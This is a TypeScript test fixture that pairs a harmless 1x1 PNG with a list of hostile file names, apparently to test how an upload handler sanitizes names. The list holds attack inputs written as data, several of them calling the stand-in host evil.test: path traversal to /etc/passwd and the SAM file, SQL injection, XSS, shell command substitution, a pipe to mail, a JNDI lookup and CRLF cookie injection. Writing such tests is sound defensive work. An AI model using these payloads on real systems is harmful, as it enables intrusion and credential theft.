import { deflateSync } from 'node:zlib'
import type { HostileFile } from './hostile-file.ts'
import { pngOf } from './png.ts'

/** Malicious file names on a harmless picture. */
export function hostileNames(): HostileFile[] {
	const picture = pngOf({ width: 1, height: 1, bitDepth: 8, color: 0 }, deflateSync(Buffer.from([0, 0])))
	return names.map((name) => ({
		what: `the name ${JSON.stringify(name.slice(0, 40))}`,
		name,
		bytes: () => picture,
		fate: 'harmless',
	}))
}

const names = [
	'../../../../etc/passwd',
	'..\\..\\..\\windows\\system32\\config\\sam',
	'/etc/cron.d/lotwise',
	'C:\\Users\\Public\\run.exe',
	'\\\\evil.test\\share\\a.png',
	'%2e%2e%2fpasswd',
	'..∕..∕passwd.png',
	'license\0.php',
	'\0',
	'license\u202egnp.exe',
	'\u2066license\u2069.png',
	`${'a'.repeat(4_090)}.png`,
	`${'ü'.repeat(2_000)}.png`,
	`${'../'.repeat(1_000)}x.png`,
	'.',
	'..',
	'.htaccess',
	'   ',
	'con.png',
	'license.png.exe',
	'license.php;.png',
	'license.png/',
	'license.png::$DATA',
	"'; drop table credit_document; --.png",
	'<img src=x onerror=alert(1)>.png',
	'$(reboot).png',
	'`id`.png',
	'| mail evil@evil.test .png',
	'-rf.png',
	'\u0024{jndi:ldap://evil.test/a}.png',
	'{{7*7}}.png',
	'=HYPERLINK("https://evil.test")',
	'a\r\nset-cookie: session=stolen.png',
	'a\tb\u0007\u001b[31m.png',
	'Z̷̢̛͎͎a̶l̸g̵o̶.png',
	'😀'.repeat(300),
]
